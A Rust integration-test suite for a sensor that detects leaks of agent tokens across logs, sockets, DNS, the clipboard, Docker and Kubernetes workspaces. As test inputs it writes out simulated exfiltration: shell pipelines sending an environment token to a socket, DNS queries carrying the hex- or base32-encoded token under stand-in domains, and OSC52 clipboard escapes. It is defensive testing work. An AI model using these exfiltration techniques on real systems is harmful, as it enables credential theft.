//! The workspace boundary judged end to end through the real CLI: real watched processes
//! (shell pipelines, ptys, DNS queries, clipboard tools) move a workspace token around;
//! the sensor must alert where it leaves — a log, the clipboard, DNS, another host — and
//! stay silent where it does not (`/dev/null`, a pipe into a process of the same
//! workspace), once per destination, naming each leak's own workspace, and never print
//! the value.

use std::process::Command;
use std::time::Duration;

use sensor_tests::*;

const KEY: &str = "00112233445566778899aabbccddeeff";

fn config(dir: &std::path::Path, extra: &str) -> String {
    let cfg = dir.join("cfg.yaml");
    std::fs::write(&cfg, format!("fingerprint_key: \"{KEY}\"\n{extra}")).unwrap();
    cfg.display().to_string()
}

fn fp(secret: &str) -> String {
    sensor::redact::Fingerprinter::from_hex(KEY)
        .unwrap()
        .fingerprint(secret.as_bytes())
}

/// Runs a watched agent (the workload copied as `name`) with `steps` and `env`, under a
/// CLI sensor watching that exe name; returns the sensor's output.
fn run_agent(tag: &str, name: &str, env: &[(&str, &str)], steps: &[String]) -> (CliOutput, u32) {
    let dir = temp_dir(tag);
    let agent = workload_as(&dir, name);
    let cfg = config(&dir, "");
    let sensor = CliSensor::start(&["--only-flag-scopes", "--config", &cfg, "--watch-exe", name]);
    let mut child = Command::new(&agent)
        .args(steps)
        .envs(env.iter().copied())
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success(), "agent failed");
    std::thread::sleep(Duration::from_millis(700));
    (sensor.stop(), pid)
}

fn of_token<'a>(findings: &'a [serde_json::Value], token: &str) -> Vec<&'a serde_json::Value> {
    let f = fp(token);
    findings
        .iter()
        .filter(|a| a["finding"]["fingerprint"] == f.as_str())
        .collect()
}

#[test]
fn dev_null_and_same_workspace_pipes_are_not_sinks_logs_are() {
    let token = "0d3c2b1a-9f8e-4d7c-8b6a-5f4e3d2c1b0a";
    let dir = temp_dir("logs");
    let log = dir.join("build.log");
    let err = dir.join("stderr.txt");
    let steps = vec![
        // Piped into base64 inside the workspace, whose output goes nowhere.
        "sh:printf %s \"$CODER_AGENT_TOKEN\" | base64 > /dev/null".to_string(),
        "sh:echo \"$CODER_AGENT_TOKEN\" > /dev/null".to_string(),
        format!("sh:echo \"token=$CODER_AGENT_TOKEN\" >> {}", log.display()),
        format!(
            "sh:{{ echo \"auth $CODER_AGENT_TOKEN\" >&2; }} 2> {}",
            err.display()
        ),
    ];
    let (out, pid) = run_agent(
        "logs-run",
        "agent-logs",
        &[("CODER_AGENT_TOKEN", token)],
        &steps,
    );
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    // Exactly the two log writes: no pipe, no /dev/null, no base64 of it.
    assert_eq!(mine.len(), 2, "expected two log alerts:\n{}", out.dump());
    for a in &mine {
        assert_eq!(a["verdict"], "log_exposure", "{a}");
        assert_eq!(a["sink"]["kind"], "log");
        assert_eq!(a["workspace"]["kind"], "process_tree");
        assert_eq!(a["workspace"]["root_pid"], pid);
        assert_eq!(a["chain"]["source"]["kind"], "env");
        assert_eq!(a["chain"]["source"]["var"], "CODER_AGENT_TOKEN");
        assert_eq!(a["chain"]["source"]["pid"], pid);
    }
    let paths: Vec<&str> = mine
        .iter()
        .filter_map(|a| a["sink"]["endpoint"]["path"].as_str())
        .collect();
    assert!(paths.contains(&log.to_str().unwrap()), "{paths:?}");
    assert!(paths.contains(&err.to_str().unwrap()), "{paths:?}");
    assert!(
        findings.iter().all(|a| a["sink"]["kind"] != "pipe"),
        "a same-workspace pipe was alerted:\n{}",
        out.dump()
    );
}

#[test]
fn the_chain_names_the_source_and_every_process_a_token_passed_through() {
    let token = "9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b";
    let dir = temp_dir("hops");
    let relay = workload_as(&dir, "relay-send");
    let sink = TcpSink::start();
    let steps = vec![format!(
        "sh:printf 'X-Token: %s\\n' \"$CODER_AGENT_TOKEN\" | cat | {} stdin-tcp:{}",
        relay.display(),
        sink.addr
    )];
    let (out, root) = run_agent(
        "hops-run",
        "agent-hops",
        &[("CODER_AGENT_TOKEN", token)],
        &steps,
    );
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(
        mine.len(),
        1,
        "only the socket write leaves the workspace:\n{}",
        out.dump()
    );
    let a = mine[0];
    assert_eq!(a["verdict"], "exfiltration");
    assert!(a["process"]["exe"]
        .as_str()
        .unwrap()
        .ends_with("relay-send"));
    assert_eq!(
        a["workspace"]["root_pid"], root,
        "the relay stays in the agent's workspace"
    );
    assert_eq!(a["chain"]["source"]["var"], "CODER_AGENT_TOKEN");
    assert_eq!(a["chain"]["source"]["pid"], root);
    let hops = a["chain"]["hops"].as_array().unwrap();
    assert!(hops.len() >= 2, "hops through the shell and cat: {hops:?}");
    assert!(hops.iter().all(|h| h["via"] == "pipe"));
    assert!(
        hops.iter()
            .any(|h| h["exe"].as_str().unwrap().ends_with("/cat")),
        "{hops:?}"
    );
    assert!(hops.iter().all(|h| h["pid"] != a["process"]["pid"]));
}

#[test]
fn osc52_through_a_pty_plain_and_tmux_wrapped_is_a_clipboard_write() {
    use base64::Engine as _;
    // A known format (no learning needed) plainly, a learned token tmux-wrapped.
    let gh = "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";
    let learned = "c0ffee00-1234-4abc-9def-0123456789ab";
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let plain = format!("set:\x1b]52;c;{}\x07", b64(gh));
    let tmux = format!("set:\x1bPtmux;\x1b\x1b]52;c;{}\x07\x1b\\", b64(learned));
    let steps = vec![plain, "pty".into(), tmux, "pty".into()];
    let (out, pid) = run_agent(
        "osc52",
        "agent-osc",
        &[("AGENT_API_TOKEN", learned)],
        &steps,
    );
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[gh, &b64(gh), learned, &b64(learned)]);
    let findings = out.records("finding");
    for (token, detector) in [
        (gh, "github-personal-access-token"),
        (learned, "learned:env:AGENT_API_TOKEN"),
    ] {
        let mine = of_token(&findings, token);
        assert_eq!(
            mine.len(),
            1,
            "one clipboard alert for {detector}:\n{}",
            out.dump()
        );
        let a = mine[0];
        assert_eq!(a["verdict"], "clipboard");
        assert_eq!(a["sink"]["kind"], "clipboard");
        assert_eq!(a["sink"]["fd_kind"], "tty");
        assert_eq!(a["process"]["pid"], pid);
        assert_eq!(a["finding"]["detector"], detector);
        assert!(a["mitre"].as_array().unwrap().iter().any(|t| t == "T1115"));
    }
    assert!(
        findings.iter().all(|a| a["verdict"] == "clipboard"),
        "{}",
        out.dump()
    );
}

#[test]
fn a_token_in_dns_query_labels_is_exfiltration() {
    let token = "7c1e9a52-3b4d-4e6f-8a9b-0c1d2e3f4a5b";
    // A resolver on loopback that answers nothing (the query itself is the leak).
    let resolver = std::net::UdpSocket::bind("127.0.0.2:53").expect("bind 127.0.0.2:53 (root)");
    let addr = resolver.local_addr().unwrap();
    let hex = hex::encode(token);
    let b32 = data_encoding::BASE32_NOPAD
        .encode(token.as_bytes())
        .to_ascii_lowercase();
    let steps = vec![
        format!(
            "dns:{addr}:{}.{}.{}.x.exfil.test",
            &hex[..30],
            &hex[30..60],
            &hex[60..]
        ),
        format!(
            "dns:{addr}:0.{}.{}.collect.example.net",
            &b32[..29],
            &b32[29..]
        ),
        format!("dns:{addr}:www.example.org"),
    ];
    let (out, _) = run_agent("dns", "agent-dns", &[("CODER_AGENT_TOKEN", token)], &steps);
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token, &hex, &b32]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(
        mine.len(),
        2,
        "one alert per exfiltration domain:\n{}",
        out.dump()
    );
    let mut domains: Vec<&str> = mine
        .iter()
        .map(|a| a["sink"]["host"].as_str().unwrap())
        .collect();
    domains.sort();
    assert_eq!(domains, ["example.net", "exfil.test"]);
    for a in mine {
        assert_eq!(a["verdict"], "exfiltration");
        assert_eq!(a["sink"]["kind"], "dns");
        assert_eq!(a["sink"]["host_source"], "dns");
        assert!(a["sink"]["dns_query"]
            .as_str()
            .unwrap()
            .ends_with(a["sink"]["host"].as_str().unwrap()));
        assert_eq!(a["sink"]["endpoint"]["addr"], addr.to_string());
    }
}

#[test]
fn the_same_leak_repeated_is_one_alert_with_its_count() {
    let token = "5a4b3c2d-1e0f-4a9b-8c7d-6e5f4a3b2c1d";
    let sink = TcpSink::start();
    let mut steps = vec![format!("set:X-Agent-Token: {token}\n")];
    for _ in 0..50 {
        steps.push(format!("tcp:{}", sink.addr));
    }
    let (out, _) = run_agent(
        "repeat",
        "agent-rep",
        &[("CODER_AGENT_TOKEN", token)],
        &steps,
    );
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(mine.len(), 1, "one alert for 50 sends:\n{}", out.dump());
    let first = mine[0];
    assert_eq!(first["verdict"], "exfiltration");
    let repeats = out.records("repeat");
    let rep: Vec<_> = of_token(&repeats, token);
    assert_eq!(rep.len(), 1, "one repeat summary:\n{}", out.dump());
    assert_eq!(rep[0]["count"], 50);
    assert_eq!(rep[0]["repeat_of"], first["id"]);
}

#[test]
fn two_agents_on_one_host_are_two_workspaces() {
    let dir = temp_dir("two-ws");
    let a = workload_as(&dir, "agent-alpha");
    let b = workload_as(&dir, "agent-beta");
    let cfg = config(&dir, "");
    let (ta, tb) = (
        "1a2b3c4d-5e6f-4a1b-9c2d-3e4f5a6b7c8d",
        "8d7c6b5a-4f3e-4d2c-8b1a-0f9e8d7c6b5a",
    );
    let sink = TcpSink::start();
    let sensor = CliSensor::start(&[
        "--only-flag-scopes",
        "--config",
        &cfg,
        "--watch-exe",
        "agent-alpha",
        "--watch-exe",
        "agent-beta",
    ]);
    let send = |bin: &std::path::Path, mine: &str, other: &str| {
        Command::new(bin)
            .args([
                "env:CODER_AGENT_TOKEN".to_string(),
                format!("tcp:{}", sink.addr),
                // The other agent's token (a bare UUID, no known format, under a name
                // that is not secret-like) means nothing here: it was not learned in
                // this workspace.
                "env:X_CORRELATION".to_string(),
                format!("tcp:{}", sink.addr),
            ])
            .env("CODER_AGENT_TOKEN", mine)
            .env("X_CORRELATION", other)
            .spawn()
            .unwrap()
    };
    let mut ca = send(&a, ta, tb);
    let mut cb = send(&b, tb, ta);
    let (pa, pb) = (ca.id(), cb.id());
    assert!(ca.wait().unwrap().success() && cb.wait().unwrap().success());
    std::thread::sleep(Duration::from_millis(700));
    let out = sensor.stop();
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[ta, tb]);
    let findings = out.records("finding");
    let fa = of_token(&findings, ta);
    let fb = of_token(&findings, tb);
    assert_eq!(
        (fa.len(), fb.len()),
        (1, 1),
        "each agent leaks its own token once:\n{}",
        out.dump()
    );
    assert_eq!(fa[0]["process"]["pid"], pa);
    assert_eq!(fb[0]["process"]["pid"], pb);
    assert_eq!(fa[0]["workspace"]["root_pid"], pa);
    assert_eq!(fb[0]["workspace"]["root_pid"], pb);
    assert_ne!(fa[0]["workspace"]["id"], fb[0]["workspace"]["id"]);
    assert!(fa[0]["workspace"]["root_exe"]
        .as_str()
        .unwrap()
        .ends_with("agent-alpha"));
}

#[test]
fn xclip_under_xvfb_receiving_a_token_is_a_clipboard_leak() {
    let token = "3f2e1d0c-9b8a-4f7e-8d6c-5b4a3f2e1d0c";
    // Xvfb picks a free display itself and tells it on the fd given.
    let mut xvfb = Command::new("Xvfb")
        .args([
            "-displayfd",
            "1",
            "-nolisten",
            "tcp",
            "-screen",
            "0",
            "640x480x24",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("Xvfb (Debian package xvfb) must be installed");
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(xvfb.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    assert!(!line.trim().is_empty(), "Xvfb did not start");
    let display: &'static str = Box::leak(format!(":{}", line.trim()).into_boxed_str());
    let steps = vec![
        "sh:printf %s \"$CODER_AGENT_TOKEN\" | xclip -selection clipboard -loops 1".to_string(),
    ];
    // xclip keeps serving the selection until one client has read it: read it once.
    let reader = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(1500));
        let _ = Command::new("xclip")
            .args(["-selection", "clipboard", "-o"])
            .env("DISPLAY", display)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
    });
    let (out, _) = run_agent(
        "xclip",
        "agent-clip",
        &[("CODER_AGENT_TOKEN", token), ("DISPLAY", display)],
        &steps,
    );
    reader.join().unwrap();
    let _ = xvfb.kill();
    let _ = xvfb.wait();
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert!(
        mine.iter()
            .any(|a| a["verdict"] == "clipboard" && a["sink"]["kind"] == "clipboard"),
        "no clipboard alert:\n{}",
        out.dump()
    );
    assert!(
        mine.iter().all(|a| a["verdict"] == "clipboard"),
        "{}",
        out.dump()
    );
}

#[test]
fn a_container_is_its_own_workspace() {
    let root = sensor::host::cgroupfs::cgroup2_mount().expect("cgroup v2 is mounted here");
    // A cgroup shaped as Docker names them: the container id is in its name.
    let id = format!("{:064x}", 0x5e50_c0de_u64 + std::process::id() as u64);
    let parent = root.join(format!("sensor-ctr-{}.slice", std::process::id()));
    let cg = parent.join(format!("docker-{id}.scope"));
    std::fs::create_dir_all(&cg).unwrap();
    let dir = temp_dir("container");
    let cfg = config(&dir, "");
    let token = "4b3a2f1e-0d9c-4b8a-9f7e-6d5c4b3a2f1e";
    let sink = TcpSink::start();
    let sensor = CliSensor::start(&[
        "--only-flag-scopes",
        "--config",
        &cfg,
        "--watch-cgroup",
        parent.to_str().unwrap(),
    ]);
    let procs = cg.join("cgroup.procs");
    let mut cmd = Command::new(workload_bin());
    cmd.args([format!("set:Auth: {token}\n"), format!("tcp:{}", sink.addr)])
        .env("CODER_AGENT_TOKEN", token);
    use std::os::unix::process::CommandExt;
    unsafe {
        // The child enters the "container" before exec, as a runtime's init would.
        cmd.pre_exec(move || std::fs::write(&procs, b"0"));
    }
    let mut child = cmd.spawn().unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success());
    std::thread::sleep(Duration::from_millis(700));
    let out = sensor.stop();
    let _ = std::fs::remove_dir(&cg);
    let _ = std::fs::remove_dir(&parent);
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(mine.len(), 1, "{}", out.dump());
    let ws = &mine[0]["workspace"];
    assert_eq!(ws["kind"], "container");
    assert_eq!(ws["id"], format!("container:{id}"));
    assert_eq!(ws["container_id"], id);
    assert_eq!(ws["container_runtime"], "docker");
    assert_eq!(mine[0]["process"]["pid"], pid);
    // Learned from the container's own environment.
    assert_eq!(mine[0]["finding"]["validation"], "learned");
}

#[test]
fn a_kubernetes_container_names_its_pod_from_the_kubelet_files() {
    let root = sensor::host::cgroupfs::cgroup2_mount().expect("cgroup v2 is mounted here");
    let me = std::process::id();
    let uid = format!("5e50c0de-{:04x}-4a1b-9c2d-3e4f5a6b7c8d", me & 0xffff);
    let id = format!("{:064x}", 0xfeed_0000_u64 + me as u64);
    // The cgroupfs driver's layout, nested under a node cgroup of our own.
    let parent = root.join(format!("sensor-k8s-{me}"));
    let cg = parent
        .join("kubepods/besteffort")
        .join(format!("pod{uid}"))
        .join(&id);
    std::fs::create_dir_all(&cg).unwrap();
    // What the kubelet leaves on a node: the pod's log directory with its container's.
    let pod_dir = std::path::PathBuf::from(format!("/var/log/pods/ci-{me}_builder-7f9c_{uid}"));
    std::fs::create_dir_all(pod_dir.join("agent")).unwrap();
    let dir = temp_dir("k8s");
    let cfg = config(&dir, "");
    let token = "6e5d4c3b-2a1f-4e0d-9c8b-7a6f5e4d3c2b";
    let sink = TcpSink::start();
    let sensor = CliSensor::start(&[
        "--only-flag-scopes",
        "--config",
        &cfg,
        "--watch-cgroup",
        parent.to_str().unwrap(),
    ]);
    let procs = cg.join("cgroup.procs");
    let mut cmd = Command::new(workload_bin());
    cmd.args([
        "env:CODER_AGENT_TOKEN".to_string(),
        format!("tcp:{}", sink.addr),
    ])
    .env("CODER_AGENT_TOKEN", token);
    use std::os::unix::process::CommandExt;
    unsafe {
        cmd.pre_exec(move || std::fs::write(&procs, b"0"));
    }
    let st = cmd.status().unwrap();
    std::thread::sleep(Duration::from_millis(700));
    let out = sensor.stop();
    let _ = std::fs::remove_dir_all(&pod_dir);
    for d in [
        cg.clone(),
        cg.parent().unwrap().to_path_buf(),
        parent.join("kubepods/besteffort"),
        parent.join("kubepods"),
        parent.clone(),
    ] {
        let _ = std::fs::remove_dir(d);
    }
    assert!(st.success());
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(mine.len(), 1, "{}", out.dump());
    let ws = &mine[0]["workspace"];
    assert_eq!(ws["kind"], "container");
    assert_eq!(ws["container_id"], id);
    assert_eq!(ws["container_runtime"], "kubernetes");
    assert_eq!(ws["container_name"], "agent", "{ws}");
    assert_eq!(ws["pod"]["uid"], uid);
    assert_eq!(ws["pod"]["name"], "builder-7f9c");
    assert_eq!(ws["pod"]["namespace"], format!("ci-{me}"));
}

#[test]
fn a_finding_carries_the_time_of_the_write_that_held_the_token() {
    let token = "0a9b8c7d-6e5f-4a3b-8c1d-2e3f4a5b6c7d";
    let dir = temp_dir("write-time");
    let agent = workload_as(&dir, "agent-time");
    let cfg = config(&dir, "");
    let sink = TcpSink::start();
    let sensor = CliSensor::start(&[
        "--only-flag-scopes",
        "--print-events",
        "--config",
        &cfg,
        "--watch-exe",
        "agent-time",
    ]);
    // The token in the first write, then a harmless second write right after it on the
    // same socket: both reach the detector in one batch.
    let st = Command::new(&agent)
        .args([
            "env:CODER_AGENT_TOKEN".to_string(),
            format!("tcp:{}", sink.addr),
            "set:nothing to see here\n".to_string(),
            "again".to_string(),
        ])
        .env("CODER_AGENT_TOKEN", token)
        .status()
        .unwrap();
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(700));
    let out = sensor.stop();
    assert!(out.status.success(), "{}", out.dump());
    out.assert_no_leak(&[token]);
    let findings = out.records("finding");
    let mine = of_token(&findings, token);
    assert_eq!(mine.len(), 1, "{}", out.dump());
    let a = mine[0];
    let writes: Vec<_> = out
        .records("event")
        .into_iter()
        .filter(|e| {
            e["event"] == "write"
                && e["process"]["pid"] == a["process"]["pid"]
                && e["fd"] == a["sink"]["fd"]
        })
        .collect();
    assert_eq!(writes.len(), 2, "{}", out.dump());
    assert_ne!(writes[0]["time"], writes[1]["time"]);
    assert_eq!(
        a["time"], writes[0]["time"],
        "the finding must carry the first write's time"
    );
}
